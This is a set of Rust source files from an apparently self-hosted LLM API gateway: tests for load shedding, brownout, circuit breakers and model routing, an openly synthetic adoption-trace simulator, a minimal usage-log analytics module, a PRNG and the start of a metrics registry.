        let server = gateway.start().unwrap();
        let r = http::request(
            "POST",
            &format!("{}/c/", server.url()),
            &[],
            b"{\"deadline_ms\":1}",
        )
        .unwrap();
        assert_eq!(r.status, 502);
        assert_eq!(
            metrics.counter("gw_retries_total", &[("route", "m")]).get(),
            0,
            "retried past the request deadline"
        );
    }

    #[test]
    fn load_shedding_prefers_low_priority_routes() {
        use crate::util::clock::WallClock;
        let up = upstream_echo();
        let routes = vec![
            Route::new("hi", "/hi/", vec![up.url()], "/x").public(),
            Route::new("lo", "/lo/", vec![up.url()], "/x").public().with_shed_priority(0),
        ];
        let log = RequestLog::new();
        let metrics = Registry::new();
        let gateway = Gateway::new_with_admission(
            routes,
            vec![],
            None,
            metrics.clone(),
            log.clone(),
            WallClock::new(),
            AdmissionConfig {
                max_inflight: 2,
                brownout_inflight: 0,
                brownout_max_tokens: 8,
                retry_after_secs: 2,
            },
        );
        let server = gateway.clone().start().unwrap();
        // Standing load: one admitted request currently in flight.
        gateway.inflight.store(1, Ordering::SeqCst);
        // The low-priority route's watermark (max_inflight/4, floor 1) is
        // crossed: shed with pacing guidance...
        let r = http::request("POST", &format!("{}/lo/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 503);
        assert_eq!(r.header_value("retry-after"), Some("2"));
        assert_eq!(metrics.counter("gw_shed_total", &[("route", "lo")]).get(), 1);
        // ...while the default-priority route still admits.
        let r = http::request("POST", &format!("{}/hi/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 200);
        // The shed shows up in the usage log, nothing more (§6.2).
        let entries = log.entries();
        assert!(entries.iter().any(|e| e.model == "lo" && e.shed), "shed not logged");
        assert!(entries.iter().any(|e| e.model == "hi" && !e.shed));
        // At full saturation everything sheds.
        gateway.inflight.store(2, Ordering::SeqCst);
        let r = http::request("POST", &format!("{}/hi/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 503);
    }

    #[test]
    fn brownout_clamps_max_tokens_under_pressure() {
        use crate::util::clock::WallClock;
        // Upstream echoes the body it received, so the clamp is observable.
        let up = Server::start(Arc::new(|req: &Request| {
            let body = Json::parse(req.body_str()).unwrap_or_else(|_| Json::obj());
            Reply::full(Response::json(200, &body))
        }))
        .unwrap();
        let routes = vec![Route::new("m", "/c/", vec![up.url()], "/x").public()];
        let metrics = Registry::new();
        let gateway = Gateway::new_with_admission(
            routes,
            vec![],
            None,
            metrics.clone(),
            RequestLog::new(),
            WallClock::new(),
            AdmissionConfig {
                max_inflight: 8,
                brownout_inflight: 2,
                brownout_max_tokens: 8,
                retry_after_secs: 1,
            },
        );
        let server = gateway.clone().start().unwrap();
        let ask = |body: &[u8]| {
            http::request("POST", &format!("{}/c/", server.url()), &[], body)
                .unwrap()
                .json_body()
                .unwrap()
                .u64_or("max_tokens", 0)
        };
        // Below the watermark the body passes through untouched.
        assert_eq!(ask(b"{\"max_tokens\":512}"), 512);
        // Standing load at the watermark: new requests are browned out.
        gateway.inflight.store(1, Ordering::SeqCst);
        assert_eq!(ask(b"{\"max_tokens\":512}"), 8, "max_tokens not clamped");
        assert_eq!(metrics.counter("gw_brownout_total", &[("route", "m")]).get(), 1);
        // Requests already under the clamp are left alone.
        assert_eq!(ask(b"{\"max_tokens\":4}"), 4);
        assert_eq!(metrics.counter("gw_brownout_total", &[("route", "m")]).get(), 1);
    }

    #[test]
    fn breaker_state_survives_upstream_set_swap() {
        // Regression: breaker state used to be positional (one Vec slot per
        // upstream index), so swapping the upstream set handed upstream A's
        // open breaker to whatever URL landed on A's old index. State is
        // now keyed by upstream identity.
        let route =
            Route::new("m", "/c/", vec!["http://a".into(), "http://b".into()], "/x");
        let a_breaker = route.upstreams.lock().unwrap().breakers["http://a"].clone();
        for _ in 0..3 {
            a_breaker.on_failure(1_000); // default threshold: 3 consecutive
        }
        assert_eq!(a_breaker.state_code(), 1, "A should be open");
        // C joins at index 0 — exactly where A used to sit.
        route.set_upstreams(vec!["http://c".into(), "http://a".into(), "http://b".into()]);
        {
            let set = route.upstreams.lock().unwrap();
            assert_eq!(
                set.breakers["http://a"].state_code(),
                1,
                "A's open breaker must survive the swap"
            );
            assert_eq!(set.breakers["http://c"].state_code(), 0, "new upstream starts closed");
            assert_eq!(set.breakers["http://b"].state_code(), 0);
        }
        // The rotation keeps ejecting A (still inside its open window) and
        // serves C and B — under the positional scheme C would have
        // inherited the open state and A would be readmitted.
        for _ in 0..6 {
            let pick = route.attempt_upstream(None, 2_000);
            assert_ne!(pick.url, "http://a", "open breaker readmitted after the swap");
        }
        // A pick taken before a swap still reports to the right breaker
        // even once its URL is gone from the set.
        let pick = route.attempt_upstream(None, 2_000);
        route.set_upstreams(vec!["http://a".into()]);
        pick.breaker.on_success();
        assert_eq!(pick.breaker.state_code(), 0, "late report lost its breaker");
    }

    #[test]
    fn model_addressable_endpoint_resolves_body_model() {
        let up = upstream_echo();
        let routes = vec![Route::new(
            "intel-neural-7b",
            "/v1/m/intel-neural-7b/",
            vec![up.url()],
            "/infer/intel-neural-7b",
        )];
        let (gateway, server) = gw(routes, None);
        let reg = ModelRegistry::new();
        reg.register("intel-neural-7b", "intel-neural-7b", || ModelStatus {
            ready: 1,
            total: 1,
            scale_from_zero: false,
        });
        gateway.set_model_registry(reg);
        // The body `model` picks the route; the route's rewrite alone
        // forms the upstream path (no path suffix to carry).
        let r = http::request(
            "POST",
            &format!("{}/v1/chat/completions", server.url()),
            &[("authorization", "Bearer key-abc")],
            b"{\"model\":\"intel-neural-7b\"}",
        )
        .unwrap();
        assert_eq!(r.status, 200);
        let j = r.json_body().unwrap();
        assert_eq!(j.str_or("path", ""), "/infer/intel-neural-7b");
        assert_eq!(j.str_or("user", ""), "api-user-1");
        // Unknown model: a structured, machine-readable 404 — before auth,
        // matching the public fleet listing below.
        let r = http::request(
            "POST",
            &format!("{}/v1/chat/completions", server.url()),
            &[("authorization", "Bearer key-abc")],
            b"{\"model\":\"gpt-9000\"}",
        )
        .unwrap();
        assert_eq!(r.status, 404);
        let j = r.json_body().unwrap();
        assert_eq!(j.at(&["error", "type"]).unwrap().as_str().unwrap(), "model_not_found");
        assert!(j.at(&["error", "message"]).unwrap().as_str().unwrap().contains("gpt-9000"));
        // GET /v1/models is public and reports per-model fleet state.
        let r = http::get(&format!("{}/v1/models", server.url())).unwrap();
        assert_eq!(r.status, 200);
        let j = r.json_body().unwrap();
        assert_eq!(j.str_or("object", ""), "list");
        assert_eq!(
            j.at(&["data", "0", "id"]).unwrap().as_str().unwrap(),
            "intel-neural-7b"
        );
        assert_eq!(j.at(&["data", "0", "state"]).unwrap().as_str().unwrap(), "ready");
    }
}
