//! The adoption-trace generator behind Figures 3–5.
//!
//! Calibration targets from §6.4:
//! - ~6 000 registered users after three months, ~9 000 by end of June;
//! - 400–500 active users on a typical work day, ~100 of them new;
//! - >350 000 total messages by July 30;
//! - visible weekday/weekend cycle, German holidays, a university-wide
//!   advertisement bump on April 8, a slight dip at the July summer break;
//! - GPT-4 added ~Mar 1; Qwen + Mixtral during March/April; API access
//!   (≈100 heavy users) from late May, drastically increasing open-model
//!   request volume; despite free GPT-4, internal models dominate.

use super::RequestLog;
use crate::util::rng::Rng;

pub const DAY_US: u64 = 86_400_000_000;

/// Feb 22 2024 (the release date) is day 0 and a Thursday.
pub fn weekday(day: u32) -> u32 {
    (3 + day) % 7 // Mon=0 .. Sun=6; day0 = Thursday = 3
}

pub fn is_weekend(day: u32) -> bool {
    weekday(day) >= 5
}

/// Calendar label for a day index (Feb 22 2024 epoch).
pub fn date_label(day: u32) -> String {
    // Days remaining in each month from Feb 22 2024 (leap year).
    let months = [
        (2024, 2, 22, 8),   // Feb 22..29
        (2024, 3, 1, 31),
        (2024, 4, 1, 30),
        (2024, 5, 1, 31),
        (2024, 6, 1, 30),
        (2024, 7, 1, 31),
        (2024, 8, 1, 31),
        (2024, 9, 1, 30),
    ];
    let mut rem = day;
    for (y, m, d0, len) in months {
        if rem < len {
            return format!("{y}-{m:02}-{:02}", d0 + rem);
        }
        rem -= len;
    }
    format!("day+{day}")
}

/// German public holidays in the window (day indices from Feb 22).
/// Mar 29 Good Friday=36, Apr 1 Easter Monday=39, May 1=69, May 9
/// Ascension=77, May 20 Whit Monday=88.
const HOLIDAYS: &[u32] = &[36, 39, 69, 77, 88];

pub fn is_holiday(day: u32) -> bool {
    HOLIDAYS.contains(&day)
}

/// Event timeline (day indices).
pub const DAY_GPT4_LAUNCH: u32 = 8; // ~Mar 1: GPT-4 route added
pub const DAY_QWEN_LAUNCH: u32 = 26; // mid-March
pub const DAY_MIXTRAL_LAUNCH: u32 = 40; // early April
pub const DAY_AD_CAMPAIGN: u32 = 46; // April 8 advertisement
pub const DAY_UI_REDESIGN: u32 = 80; // mid-May React/Vite redesign
pub const DAY_API_LAUNCH: u32 = 95; // late May API access
pub const DAY_SUMMER_BREAK: u32 = 130; // July onset

/// Trace generator configuration.
#[derive(Debug, Clone)]
pub struct AdoptionConfig {
    pub seed: u64,
    /// Feb 22 .. Jul 30 2024 inclusive = 160 days.
    pub days: u32,
    /// Scale factor on user counts (1.0 = paper scale; smaller for quick
    /// tests).
    pub scale: f64,
}

impl Default for AdoptionConfig {
    fn default() -> AdoptionConfig {
        AdoptionConfig { seed: 2024, days: 160, scale: 1.0 }
    }
}

struct SimUser {
    id: u32,
    /// Per-user daily activity propensity.
    propensity: f64,
    /// API users fire large request volumes (§6.4).
    api_user: bool,
}

/// The generator.
pub struct AdoptionSim {
    cfg: AdoptionConfig,
    rng: Rng,
    users: Vec<SimUser>,
}

impl AdoptionSim {
    pub fn new(cfg: AdoptionConfig) -> AdoptionSim {
        let rng = Rng::new(cfg.seed);
        AdoptionSim { cfg, rng, users: Vec::new() }
    }

    /// Expected new registrations for a day (before weekday modulation).
    fn registration_rate(&self, day: u32) -> f64 {
        // Launch interest, steady growth, ad bump, summer slowdown.
        let base = if day < 7 {
            90.0 // launch week spike
        } else {
            40.0 + 35.0 * (day as f64 / 60.0).min(1.6)
        };
        let ad = if (DAY_AD_CAMPAIGN..DAY_AD_CAMPAIGN + 7).contains(&day) {
            // The paper's "slight jump following a university-wide
            // advertisement on April 8".
            80.0 * (1.0 - (day - DAY_AD_CAMPAIGN) as f64 / 7.0)
        } else {
            0.0
        };
        let summer = if day >= DAY_SUMMER_BREAK { 0.75 } else { 1.0 };
        (base + ad) * summer * self.cfg.scale
    }

    fn activity_factor(day: u32) -> f64 {
        let mut f = if is_weekend(day) { 0.30 } else { 1.0 };
        if is_holiday(day) {
            f *= 0.35;
        }
        if day >= DAY_SUMMER_BREAK {
            // Summer-break dip (§6.4): strong enough that daily actives
            // fall in absolute terms even though registrations keep coming.
            f *= 0.60;
        }
        f
    }

    /// Mean requests per active web user per day (UI improvements help).
    fn requests_per_user(day: u32) -> f64 {
        let mut r = 6.0;
        if day >= DAY_UI_REDESIGN {
            r += 2.0;
        }
        r
    }

    /// Model mix for one request (returns a model/route name).
    fn pick_model(&mut self, day: u32, api: bool) -> &'static str {
        if api {
            // API access targets the open-source models only (§6.4).
            return if self.rng.chance(0.5) {
                "llama3-70b"
            } else if self.rng.chance(0.5) {
                "intel-neural-7b"
            } else {
                "mixtral-8x7b"
            };
        }
        // Web mix: GPT-4 available from its launch, capped share; internal
        // share grows as models are added (the paper's headline: open
        // models dominate despite free GPT-4).
        let gpt4_share = if day < DAY_GPT4_LAUNCH {
            0.0
        } else if day < DAY_QWEN_LAUNCH {
            0.45
        } else if day < DAY_API_LAUNCH {
            0.35
        } else {
            0.25
        };
        if self.rng.chance(gpt4_share) {
            return if self.rng.chance(0.8) { "gpt-4" } else { "gpt-3.5" };
        }
        let roll = self.rng.f64();
        if day >= DAY_MIXTRAL_LAUNCH && roll < 0.25 {
            "mixtral-8x7b"
        } else if day >= DAY_QWEN_LAUNCH && roll < 0.5 {
            "qwen1.5-72b"
        } else if roll < 0.75 {
            "llama3-70b"
        } else {
            "intel-neural-7b"
        }
    }

    /// Generate the full trace into `log`.
    pub fn run(mut self, log: &RequestLog) -> AdoptionSummary {
        let days = self.cfg.days;
        for day in 0..days {
            // Registrations (new users who also make requests today).
            let reg_mean = self.registration_rate(day) * Self::activity_factor(day).max(0.25);
            let n_new = self.rng.poisson(reg_mean);
            for _ in 0..n_new {
                let id = self.users.len() as u32;
                let api_user = day >= DAY_API_LAUNCH && self.rng.chance(0.02);
                let propensity = 0.03 + self.rng.f64() * 0.12;
                self.users.push(SimUser { id, propensity, api_user });
            }

            // Existing-user activity.
            let act = Self::activity_factor(day);
            let rpu = Self::requests_per_user(day);
            let mut todays: Vec<(u32, bool, u64)> = Vec::new();
            // (Borrow dance: collect activity decisions first.)
            let decisions: Vec<(u32, bool, f64)> = self
                .users
                .iter()
                .map(|u| (u.id, u.api_user, u.propensity))
                .collect();
            for (id, api_user, propensity) in decisions {
                let p_active = if api_user {
                    // API scripts run on weekdays and weekends alike.
                    (propensity * 8.0).min(0.9)
                } else {
                    (propensity * act).min(1.0)
                };
                if self.rng.chance(p_active) {
                    let n = if api_user {
                        // §6.4: API users "drastically increased" volume.
                        10 + self.rng.poisson(rpu * 12.0)
                    } else {
                        1 + self.rng.poisson(rpu)
                    };
                    todays.push((id, api_user, n));
                }
            }

            for (id, api_user, n) in todays {
                for _ in 0..n {
                    let ts = day as u64 * DAY_US + self.rng.below(DAY_US);
                    let model = self.pick_model(day, api_user);
                    log.record_at(ts, &format!("user{id}"), model);
                }
            }
        }
        AdoptionSummary { total_users: self.users.len() as u64, total_requests: log.len() as u64 }
    }
}

#[derive(Debug, Clone)]
pub struct AdoptionSummary {
    pub total_users: u64,
    pub total_requests: u64,
}

/// External-model names for the Fig 5 split.
pub const EXTERNAL_MODELS: &[&str] = &["gpt-4", "gpt-3.5"];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analytics::aggregate_daily;

    fn run_small() -> (RequestLog, Vec<crate::analytics::DayStats>, AdoptionSummary) {
        let log = RequestLog::new();
        let cfg = AdoptionConfig { seed: 7, days: 160, scale: 0.15 };
        let summary = AdoptionSim::new(cfg).run(&log);
        let days = aggregate_daily(&log, 160, EXTERNAL_MODELS, date_label);
        (log, days, summary)
    }

    #[test]
    fn calendar_helpers() {
        assert_eq!(weekday(0), 3, "Feb 22 2024 is a Thursday");
        assert!(is_weekend(2), "Feb 24 is a Saturday");
        assert_eq!(date_label(0), "2024-02-22");
        assert_eq!(date_label(8), "2024-03-01");
        assert_eq!(date_label(46), "2024-04-08", "ad-campaign day");
        assert!(is_holiday(69), "May 1");
    }

    #[test]
    fn growth_is_monotone_and_substantial() {
        let (_log, days, summary) = run_small();
        for w in days.windows(2) {
            assert!(w[1].total_users >= w[0].total_users, "cumulative curve dips");
        }
        assert!(summary.total_users > 500, "got {}", summary.total_users);
        assert!(summary.total_requests > 10_000, "got {}", summary.total_requests);
    }

    #[test]
    fn weekday_weekend_cycle_visible() {
        let (_log, days, _) = run_small();
        // Compare mean weekday vs weekend daily users over May.
        let may: Vec<_> = days.iter().filter(|d| (69..99).contains(&d.day)).collect();
        let wd: Vec<u64> =
            may.iter().filter(|d| !is_weekend(d.day)).map(|d| d.daily_users()).collect();
        let we: Vec<u64> =
            may.iter().filter(|d| is_weekend(d.day)).map(|d| d.daily_users()).collect();
        let mean = |v: &[u64]| v.iter().sum::<u64>() as f64 / v.len().max(1) as f64;
        assert!(
            mean(&wd) > 2.0 * mean(&we),
            "weekday {} vs weekend {}",
            mean(&wd),
            mean(&we)
        );
    }

    #[test]
    fn ad_campaign_bumps_registrations() {
        let (_log, days, _) = run_small();
        let before: u64 = (39..46).map(|d| days[d as usize].new_users).sum();
        let after: u64 = (46..53).map(|d| days[d as usize].new_users).sum();
        assert!(after as f64 > before as f64 * 1.3, "before={before} after={after}");
    }

    #[test]
    fn internal_requests_dominate_despite_free_gpt4() {
        let (_log, days, _) = run_small();
        let internal: u64 = days.iter().map(|d| d.internal_requests).sum();
        let external: u64 = days.iter().map(|d| d.external_requests).sum();
        assert!(internal > external * 2, "internal={internal} external={external}");
        // But GPT-4 is genuinely used once launched.
        assert!(external > 0);
        let before_launch: u64 = (0..DAY_GPT4_LAUNCH as usize)
            .map(|d| days[d].external_requests)
            .sum();
        assert_eq!(before_launch, 0, "no external requests before the route existed");
    }

    #[test]
    fn api_launch_increases_request_volume() {
        let (_log, days, _) = run_small();
        let may_reqs: u64 = (70..95).map(|d| days[d as usize].total_requests()).sum();
        let june_reqs: u64 = (100..125).map(|d| days[d as usize].total_requests()).sum();
        assert!(
            june_reqs as f64 > may_reqs as f64 * 1.3,
            "may={may_reqs} june={june_reqs}"
        );
    }

    #[test]
    fn deterministic_for_fixed_seed() {
        let l1 = RequestLog::new();
        let l2 = RequestLog::new();
        AdoptionSim::new(AdoptionConfig { seed: 3, days: 30, scale: 0.1 }).run(&l1);
        AdoptionSim::new(AdoptionConfig { seed: 3, days: 30, scale: 0.1 }).run(&l2);
        assert_eq!(l1.len(), l2.len());
        let (a, b) = (l1.entries(), l2.entries());
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(b.iter()) {
            assert_eq!((x.ts_us, &x.user, &x.model), (y.ts_us, &y.user, &y.model));
        }
    }
}
