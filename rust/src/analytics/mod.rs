//! Usage analytics (§5.9, §6.4) — the minimal-logging pipeline and the
//! adoption simulator behind Figures 3–5.
//!
//! The service records exactly three things per request: user id,
//! timestamp, selected model (§6.2 — never prompts or responses). Figures
//! 3–5 are aggregations over that log. The *pipeline* is the reproducible
//! artifact; the five months of production traffic are not, so
//! [`AdoptionSim`] generates a demand trace with the paper's qualitative
//! structure: sustained registration growth with an advertisement jump on
//! April 8, weekday/weekend/holiday activity cycles, the GPT-4 +
//! open-model launch timeline, the May UI redesign, the API-access launch
//! driving request volume, and the July summer-break dip.

pub mod adoption;

pub use adoption::{AdoptionConfig, AdoptionSim};

use std::sync::{Arc, Mutex};

/// One request-log record — the complete set of stored fields.
#[derive(Debug, Clone)]
pub struct LogEntry {
    /// Microseconds since the trace epoch (Feb 22 2024 for sims).
    pub ts_us: u64,
    pub user: String,
    pub model: String,
    /// The client hung up before the response finished (the gateway tags
    /// this after the fact; still no prompt/response content, §6.2).
    pub cancelled: bool,
    /// Prompt tokens the serving instance's KV prefix cache absorbed
    /// (DESIGN.md §Prefix cache) — a single integer, no content.
    pub cached_tokens: u64,
    /// The gateway refused this request under overload (admission-control
    /// load shedding, DESIGN.md §Failure policy) — a single flag.
    pub shed: bool,
}

/// Append-only usage log shared by the gateway and the analytics jobs.
#[derive(Clone, Default)]
pub struct RequestLog {
    entries: Arc<Mutex<Vec<LogEntry>>>,
}

impl RequestLog {
    pub fn new() -> RequestLog {
        RequestLog::default()
    }

    /// Record with the current wall time (gateway path). Returns the entry
    /// index so the caller can tag the entry once its outcome is known.
    pub fn record(&self, user: &str, model: &str) -> usize {
        let ts = crate::util::clock::unix_now_secs() * 1_000_000;
        self.record_at(ts, user, model)
    }

    /// Record with an explicit timestamp (simulation path).
    pub fn record_at(&self, ts_us: u64, user: &str, model: &str) -> usize {
        let mut entries = self.entries.lock().unwrap();
        entries.push(LogEntry {
            ts_us,
            user: user.to_string(),
            model: model.to_string(),
            cancelled: false,
            cached_tokens: 0,
            shed: false,
        });
        entries.len() - 1
    }

    /// Tag an entry as client-cancelled (mid-stream disconnect).
    pub fn mark_cancelled(&self, index: usize) {
        if let Some(e) = self.entries.lock().unwrap().get_mut(index) {
            e.cancelled = true;
        }
    }

    /// Tag an entry as shed by admission control (it was refused, not
    /// forwarded — the flag keeps shed traffic visible to analytics).
    pub fn mark_shed(&self, index: usize) {
        if let Some(e) = self.entries.lock().unwrap().get_mut(index) {
            e.shed = true;
        }
    }

    /// Record how many prompt tokens the instance's prefix cache served
    /// (the gateway tags this from the response's usage block).
    pub fn mark_cached_tokens(&self, index: usize, cached: u64) {
        if let Some(e) = self.entries.lock().unwrap().get_mut(index) {
            e.cached_tokens = cached;
        }
    }

    pub fn entries(&self) -> Vec<LogEntry> {
        self.entries.lock().unwrap().clone()
    }

    pub fn len(&self) -> usize {
        self.entries.lock().unwrap().len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// One day of aggregated usage (the rows behind Figures 3–5).
#[derive(Debug, Clone, Default)]
pub struct DayStats {
    pub day: u32,
    /// Calendar label like "2024-03-01".
    pub date: String,
    /// Users active this day who had never appeared before.
    pub new_users: u64,
    /// Users active this day seen on an earlier day.
    pub returning_users: u64,
    /// Running total of distinct users ever seen (Fig 3's curve).
    pub total_users: u64,
    /// Requests served by self-hosted models (Fig 5, "internal").
    pub internal_requests: u64,
    /// Requests proxied to commercial models (Fig 5, "external").
    pub external_requests: u64,
}

impl DayStats {
    pub fn daily_users(&self) -> u64 {
        self.new_users + self.returning_users
    }

    pub fn total_requests(&self) -> u64 {
        self.internal_requests + self.external_requests
    }
}

/// Aggregate a log into per-day stats. `external_models` classifies Fig 5's
/// split; `date_of_day` labels day indices.
pub fn aggregate_daily(
    log: &RequestLog,
    days: u32,
    external_models: &[&str],
    date_of_day: impl Fn(u32) -> String,
) -> Vec<DayStats> {
    let mut out: Vec<DayStats> = (0..days)
        .map(|d| DayStats { day: d, date: date_of_day(d), ..Default::default() })
        .collect();
    let mut seen: std::collections::BTreeSet<String> = Default::default();
    let mut seen_today: std::collections::BTreeSet<(u32, String)> = Default::default();

    let mut entries = log.entries();
    entries.sort_by_key(|e| e.ts_us);
    let mut total_users = 0u64;
    for e in entries {
        let day = (e.ts_us / 86_400_000_000) as u32;
        if day >= days {
            continue;
        }
        if seen_today.insert((day, e.user.clone())) {
            if seen.insert(e.user.clone()) {
                out[day as usize].new_users += 1;
                total_users += 1;
            } else {
                out[day as usize].returning_users += 1;
            }
        }
        if external_models.contains(&e.model.as_str()) {
            out[day as usize].external_requests += 1;
        } else {
            out[day as usize].internal_requests += 1;
        }
        out[day as usize].total_users = total_users;
    }
    // Forward-fill the cumulative curve through request-free days.
    let mut running = 0;
    for d in out.iter_mut() {
        if d.total_users == 0 {
            d.total_users = running;
        } else {
            running = d.total_users;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const DAY_US: u64 = 86_400_000_000;

    #[test]
    fn log_records_only_minimal_fields() {
        let log = RequestLog::new();
        log.record_at(5, "u1", "tiny");
        let e = &log.entries()[0];
        assert_eq!((e.ts_us, e.user.as_str(), e.model.as_str()), (5, "u1", "tiny"));
    }

    #[test]
    fn aggregation_new_vs_returning() {
        let log = RequestLog::new();
        log.record_at(0, "a", "tiny"); // day 0: a new
        log.record_at(100, "a", "tiny"); // same day, same user: 1 daily user
        log.record_at(DAY_US, "a", "tiny"); // day 1: a returning
        log.record_at(DAY_US + 1, "b", "gpt-4"); // day 1: b new, external
        let days = aggregate_daily(&log, 3, &["gpt-4"], |d| format!("day{d}"));
        assert_eq!(days[0].new_users, 1);
        assert_eq!(days[0].returning_users, 0);
        assert_eq!(days[0].internal_requests, 2);
        assert_eq!(days[1].new_users, 1);
        assert_eq!(days[1].returning_users, 1);
        assert_eq!(days[1].external_requests, 1);
        assert_eq!(days[1].total_users, 2);
        assert_eq!(days[2].total_users, 2, "cumulative forward-fill");
        assert_eq!(days[1].daily_users(), 2);
    }

    #[test]
    fn out_of_range_entries_ignored() {
        let log = RequestLog::new();
        log.record_at(10 * DAY_US, "x", "tiny");
        let days = aggregate_daily(&log, 3, &[], |d| d.to_string());
        assert!(days.iter().all(|d| d.total_requests() == 0));
    }
}
