//! Deterministic PRNG (xoshiro256** seeded via SplitMix64).
//!
//! Owned replacement for the `rand` crate. Everything stochastic in the
//! system (load balancing, port allocation, simulators, property tests) goes
//! through this so runs are reproducible from a single seed.

/// xoshiro256** generator.
#[derive(Debug, Clone)]
pub struct Rng {
    s: [u64; 4],
}

impl Rng {
    pub fn new(seed: u64) -> Rng {
        // SplitMix64 expansion of the seed into the full state.
        let mut x = seed;
        let mut next = || {
            x = x.wrapping_add(0x9E3779B97F4A7C15);
            let mut z = x;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58476D1CE4E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D049BB133111EB);
            z ^ (z >> 31)
        };
        Rng { s: [next(), next(), next(), next()] }
    }

    pub fn next_u64(&mut self) -> u64 {
        let r = self.s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = self.s[3].rotate_left(45);
        r
    }

    /// Uniform in `[0, n)`. Uses Lemire's method to avoid modulo bias.
    pub fn below(&mut self, n: u64) -> u64 {
        assert!(n > 0);
        let mut x = self.next_u64();
        let mut m = (x as u128) * (n as u128);
        let mut lo = m as u64;
        if lo < n {
            let t = n.wrapping_neg() % n;
            while lo < t {
                x = self.next_u64();
                m = (x as u128) * (n as u128);
                lo = m as u64;
            }
        }
        (m >> 64) as u64
    }

    /// Uniform in `[lo, hi]` (inclusive).
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        assert!(lo <= hi);
        lo + self.below(hi - lo + 1)
    }

    /// Uniform f64 in `[0, 1)`.
    pub fn f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// `true` with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        self.f64() < p
    }

    /// Standard normal via Box–Muller.
    pub fn normal(&mut self) -> f64 {
        let u1 = self.f64().max(1e-12);
        let u2 = self.f64();
        (-2.0 * u1.ln()).sqrt() * (2.0 * std::f64::consts::PI * u2).cos()
    }

    /// Exponential with rate `lambda` (mean `1/lambda`).
    pub fn exp(&mut self, lambda: f64) -> f64 {
        -self.f64().max(1e-12).ln() / lambda
    }

    /// Poisson-distributed count (Knuth for small mean, normal approx above).
    pub fn poisson(&mut self, mean: f64) -> u64 {
        if mean <= 0.0 {
            return 0;
        }
        if mean > 60.0 {
            let v = mean + mean.sqrt() * self.normal();
            return v.max(0.0).round() as u64;
        }
        let l = (-mean).exp();
        let mut k = 0u64;
        let mut p = 1.0;
        loop {
            p *= self.f64();
            if p <= l {
                return k;
            }
            k += 1;
        }
    }

    /// Pick a uniformly random element.
    pub fn choose<'a, T>(&mut self, items: &'a [T]) -> Option<&'a T> {
        if items.is_empty() {
            None
        } else {
            Some(&items[self.below(items.len() as u64) as usize])
        }
    }

    /// Fisher–Yates shuffle.
    pub fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            items.swap(i, j);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        let mut a = Rng::new(7);
        let mut b = Rng::new(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn below_bounds_and_coverage() {
        let mut r = Rng::new(1);
        let mut seen = [false; 10];
        for _ in 0..1000 {
            let v = r.below(10) as usize;
            assert!(v < 10);
            seen[v] = true;
        }
        assert!(seen.iter().all(|&s| s));
    }

    #[test]
    fn f64_unit_interval() {
        let mut r = Rng::new(2);
        let mut sum = 0.0;
        for _ in 0..10_000 {
            let v = r.f64();
            assert!((0.0..1.0).contains(&v));
            sum += v;
        }
        let mean = sum / 10_000.0;
        assert!((mean - 0.5).abs() < 0.02, "mean={mean}");
    }

    #[test]
    fn poisson_mean() {
        let mut r = Rng::new(3);
        for &mean in &[0.5, 4.0, 30.0, 200.0] {
            let n = 4000;
            let total: u64 = (0..n).map(|_| r.poisson(mean)).sum();
            let got = total as f64 / n as f64;
            assert!((got - mean).abs() < mean.max(1.0) * 0.1, "mean={mean} got={got}");
        }
    }

    #[test]
    fn normal_moments() {
        let mut r = Rng::new(4);
        let n = 20_000;
        let xs: Vec<f64> = (0..n).map(|_| r.normal()).collect();
        let mean = xs.iter().sum::<f64>() / n as f64;
        let var = xs.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / n as f64;
        assert!(mean.abs() < 0.05, "mean={mean}");
        assert!((var - 1.0).abs() < 0.1, "var={var}");
    }

    #[test]
    fn shuffle_is_permutation() {
        let mut r = Rng::new(5);
        let mut v: Vec<u32> = (0..50).collect();
        r.shuffle(&mut v);
        let mut sorted = v.clone();
        sorted.sort();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
    }
}
