//! Prometheus-style metrics registry.
//!
//! Reproduces what the paper gets from Kong's Prometheus plugin + Grafana
//! (§5.9): counters, gauges and histograms with label sets, exposed in the
//! Prometheus text format at a `/metrics` route.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Fixed histogram buckets (seconds) tuned for request latencies.
pub const LATENCY_BUCKETS: &[f64] =
    &[0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0];

#[derive(Default)]
pub struct Counter(AtomicU64);

impl Counter {
    pub fn inc(&self) {
        self.0.fetch_add(1, Ordering::Relaxed);
    }
    pub fn add(&self, n: u64) {
        self.0.fetch_add(n, Ordering::Relaxed);
    }
    pub fn get(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }
}

#[derive(Default)]
pub struct Gauge(AtomicI64);

impl Gauge {
    pub fn set(&self, v: i64) {
        self.0.store(v, Ordering::Relaxed);
    }
    pub fn add(&self, v: i64) {
        self.0.fetch_add(v, Ordering::Relaxed);
    }
    pub fn get(&self) -> i64 {
        self.0.load(Ordering::Relaxed)
    }
}

pub struct Histogram {
    buckets: Vec<f64>,
    counts: Vec<AtomicU64>,
